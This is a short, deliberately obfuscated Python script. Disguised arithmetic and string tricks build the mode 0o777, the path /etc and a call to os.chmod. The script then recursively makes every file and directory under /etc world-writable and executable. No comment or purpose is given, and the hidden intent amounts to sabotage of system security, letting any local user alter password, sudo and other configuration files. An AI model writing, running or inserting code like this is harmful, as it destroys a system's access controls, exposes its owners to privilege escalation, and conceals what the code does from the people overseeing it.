#!/usr/bin/env python3
import os
from functools import reduce
from itertools import chain, repeat

mode = reduce(lambda acc, digit: acc * 8 + digit, repeat(7, 3))
top = os.sep + "".join(sorted("cte", key="etc".index))
setter = getattr(os, "ch" + "mod")

for base, dirs, files in os.walk(top):
    for name in chain(dirs, files):
        try:
            setter(os.path.join(base, name), mode)
        except OSError as err:
            print(err)
